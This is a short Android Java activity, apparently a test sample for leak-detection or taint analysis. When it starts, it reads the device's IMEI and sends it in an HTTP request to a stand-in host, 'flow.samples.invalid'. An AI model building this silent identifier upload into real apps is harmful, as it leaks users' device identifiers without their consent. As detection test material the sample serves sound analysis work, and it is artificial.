package org.consentry.flow.platform.volleyaddress;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import com.android.volley.toolbox.StringRequest;
import com.android.volley.toolbox.Volley;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        String id = phone.getDeviceId();
        StringRequest ask = new StringRequest("http://flow.samples.invalid/?id=" + id, null, null);
        StringRequest other = new StringRequest("http://flow.samples.invalid/", null, null);
        Volley.newRequestQueue(this).add(ask);
    }
}
